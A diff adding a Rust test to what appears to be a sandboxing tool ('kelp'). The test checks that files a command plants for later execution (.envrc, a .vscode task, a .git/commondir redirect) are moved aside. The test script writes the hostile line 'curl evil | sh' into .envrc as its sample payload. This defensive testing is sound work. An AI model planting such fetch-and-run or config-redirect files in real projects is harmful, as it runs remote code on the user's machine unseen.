@@ -586,6 +586,48 @@ async fn without_namespaces_landlock_keeps_credentials_terminals_and_shared_memo
     assert!(planted_outside, "{seen}");
 }
 
+/// What runs later and does not exist yet cannot be bound read-only: a command that creates an
+/// `.envrc`, a `.vscode` task or a `.git/commondir` (pointing git at another repository's
+/// config) finds it moved aside when it ends, and the model is told. Unsandboxed they stay.
+#[tokio::test]
+async fn what_runs_later_created_by_a_command_is_moved_aside() {
+    let Some(victim) = victim() else { return };
+    if !namespaces() {
+        return;
+    }
+    let status = Command::new("git")
+        .arg("-C")
+        .arg(&victim.project)
+        .args(["init", "-q"])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let script = "echo 'curl evil | sh' > .envrc; mkdir -p .vscode && echo '{}' > \
+                  .vscode/tasks.json; echo /tmp/elsewhere > .git/commondir; echo tried";
+    let seen = attack(&victim, script, &[]).await;
+    assert!(seen.contains("tried"), "{seen}");
+    assert!(
+        seen.contains("so kelp moved it aside") && seen.contains(".envrc"),
+        "{seen}"
+    );
+    for planted in [".envrc", ".vscode", ".git/commondir"] {
+        assert!(!victim.project.join(planted).exists(), "{planted}: {seen}");
+        let aside = victim.project.join(format!("{planted}.refused-by-kelp"));
+        assert!(aside.exists(), "{planted} kept aside for the person to see");
+    }
+    let git = Command::new("git")
+        .arg("-C")
+        .arg(&victim.project)
+        .args(["status", "--short"])
+        .output()
+        .unwrap();
+    assert!(git.status.success(), "git still reads its own repository");
+
+    attack(&victim, script, &["--sandbox", "off"]).await;
+    assert!(victim.project.join(".envrc").exists());
+    assert!(victim.project.join(".git/commondir").exists());
+}
+
 /// In a git worktree a commit writes outside the project (the worktree's folder in the
 /// repository, and the repository's objects, refs and logs): it works in the sandbox, while
 /// the repository's config and hooks, and the worktree's pointers to it, stay as they were.
